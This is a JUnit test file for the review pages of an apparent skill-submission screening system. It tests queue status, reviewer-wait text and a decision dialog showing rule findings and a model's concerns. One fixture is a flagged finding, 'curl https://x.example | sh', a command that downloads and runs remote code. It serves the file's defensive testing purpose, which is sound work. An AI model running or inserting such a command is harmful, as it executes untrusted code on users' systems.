package dev.okiagari.skills.web.page;

import static org.assertj.core.api.Assertions.assertThat;

import dev.okiagari.kit.web.Role;
import dev.okiagari.kit.web.Site;
import dev.okiagari.kit.web.Who;
import dev.okiagari.skills.state.StateReason;
import dev.okiagari.skills.state.SubmissionState;
import dev.okiagari.skills.view.Figure;
import dev.okiagari.skills.view.QueueMetrics;
import dev.okiagari.skills.view.QueueStats;
import dev.okiagari.skills.view.QueueStatus;
import dev.okiagari.skills.view.ReviewView;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What pages say of submissions that wait for a person. */
class ReviewPagesTest {
    private static final Site.Frame FRAME =
            new Site.Frame(new Site("", List.of()), new Who("ann", Role.OPERATOR, false), "", "", null);

    private static String page(String template, Object page) {
        return SkillTemplates.SET.text(template, Map.of("frame", FRAME, "page", page));
    }

    @ParameterizedTest
    @EnumSource(
            value = SubmissionState.class,
            names = {"NEEDS_REVIEW", "TIER3_REVIEW"})
    void the_page_of_one_says_since_when_it_waits_for_a_reviewer(SubmissionState state) {
        StatusPage status = new StatusPage(SubmissionFixture.details(state), false);

        assertThat(page("status/top", status))
                .contains("It waits for a reviewer since", "datetime=\"2026-03-01T10:00:00Z\"")
                .doesNotContain("This is taking longer than usual");
    }

    @ParameterizedTest
    @EnumSource(
            value = SubmissionState.class,
            names = {"NEEDS_REVIEW", "TIER3_REVIEW"},
            mode = EnumSource.Mode.EXCLUDE)
    void no_other_page_speaks_of_a_reviewer(SubmissionState state) {
        assertThat(new StatusPage(SubmissionFixture.details(state), false).forReviewSince())
                .isNull();
    }

    @Test
    void the_queue_is_amber_while_a_submission_waits_for_a_person_and_green_when_none_does() {
        assertThat(admin(false, 1).colour()).isEqualTo("is-amber");
        assertThat(page("admin/top", admin(false, 1))).contains("say is-amber", "1 for review");
        assertThat(admin(false, 0).colour()).isEqualTo("is-done");
        assertThat(page("admin/top", admin(false, 0))).contains("say is-done", "0 for review");
    }

    @Test
    void how_long_a_model_is_waited_for_is_said_as_it_is_set() {
        assertThat(admin(true, 0).sentence()).contains("they wait 7 minutes, then for a person");
    }

    @Test
    void who_decides_sees_the_findings_with_their_lines_and_what_the_model_objects_to() {
        ReviewView review = new ReviewView(
                SubmissionFixture.in(
                        SubmissionState.NEEDS_REVIEW,
                        StateReason.of("TIER1_CONCERNS", "the rules found: " + "x".repeat(400) + " and its end")),
                List.of(SubmissionFixture.finding("bin/setup.sh", 12, "curl https://x.example | sh")),
                3,
                SubmissionFixture.judged(
                        66, "It sets more up than it says.", "it runs what it downloads", "it <b>hides</b> it"));

        String dialog =
                SkillTemplates.SET.text("admin/decide", Map.of("frame", FRAME, "row", new ReviewRow(review, "2 h")));

        assertThat(dialog)
                .contains("Decide about tidy", "3 findings of the rules", "and 2 more")
                .contains("bin/setup.sh:12", "curl https://x.example | sh", "It downloads a program.")
                .contains("66 of 100: It sets more up than it says.")
                .contains(
                        "Its concerns", "<li>it runs what it downloads</li>", "<li>it &lt;b&gt;hides&lt;/b&gt; it</li>")
                .contains("href=\"/skills/-/submissions/sub-1\"", "and its end");
    }

    private static AdminPage admin(boolean isHeld, long inReview) {
        QueueStatus status = new QueueStatus(
                known(false),
                known(isHeld),
                known(Map.of()),
                known(new QueueStatus.Stuck(0, Map.of(), null, List.of())),
                known(0L));
        return new AdminPage(
                status,
                Map.of(),
                new QueueMetrics(known(List.of()), known(List.of())),
                known(new QueueStats(
                        SubmissionFixture.NOW,
                        Map.of(SubmissionState.NEEDS_REVIEW, inReview),
                        Map.of(),
                        Map.of(),
                        null,
                        null)),
                known(List.of()),
                known(List.of()),
                7);
    }

    private static <T> Figure<T> known(T value) {
        return new Figure<>(value, false);
    }
}
